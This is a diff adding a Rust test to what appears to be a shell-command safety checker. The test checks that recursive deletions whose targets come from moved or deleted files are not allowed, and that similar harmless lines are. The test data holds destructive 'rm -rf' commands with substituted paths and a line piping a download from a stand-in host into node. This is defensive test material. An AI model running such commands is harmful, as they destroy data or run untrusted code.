@@ -161,3 +161,32 @@ fn a_file_that_is_looked_at_is_not_a_terminal() {
         ["node", "node -i \"$f\"", "node $f", "node src/$f", "curl http://x.example | node \"$f\""];
     assert_all(decisions(&commands, |_, _| {}), |decision| decision == Decision::Deny);
 }
+
+/// What a command has removed, by whatever name, does not say to a later one what it deletes.
+#[test]
+fn what_was_removed_is_not_read() {
+    let lines = [
+        "mv *.txt old/; rm -rf \"$PWD/$(cat d.txt)\"",
+        "mv one/* old/; rm -rf \"$PWD/$(cat one/d)\"",
+        "mv one old; rm -rf \"$PWD/$(cat one/d)\"",
+        "rm -rf one; rm -rf \"$PWD/$(cat one/d)\"",
+        "rm -f one/d*; rm -rf \"$PWD/$(cat one/d)\"",
+        "mv *.sh old/; source ./c.sh; rm -rf \"$PWD/$D\"",
+        "mv *.txt old/; cd $(cat d.txt) && rm -rf *",
+        "echo build > e.txt; mv *.txt old/; rm -rf \"$PWD/$(cat e.txt)\"",
+    ];
+    let add = |workspace: &Path, _: &Path| {
+        for (name, text) in [("d.txt", "build\n"), ("one/d", "build\n"), ("c.sh", "D=build\n")] {
+            fs::write(workspace.join(name), text).unwrap();
+        }
+    };
+    assert_all(decisions(&lines, add), |decision| decision != Decision::Allow);
+    let harmless = [
+        "rm -rf \"$PWD/$(cat d.txt)\"",
+        "rm -f *.o; make -C one",
+        "rm -f e.txt; echo build > e.txt; rm -rf \"$PWD/$(cat e.txt)\"",
+        "rm -f f.txt; rm -rf \"$PWD/$(cat d.txt)\"",
+        "rm -rf build; source ./c.sh; rm -rf \"$PWD/$D\"",
+    ];
+    assert_all(decisions(&harmless, add), |decision| decision == Decision::Allow);
+}
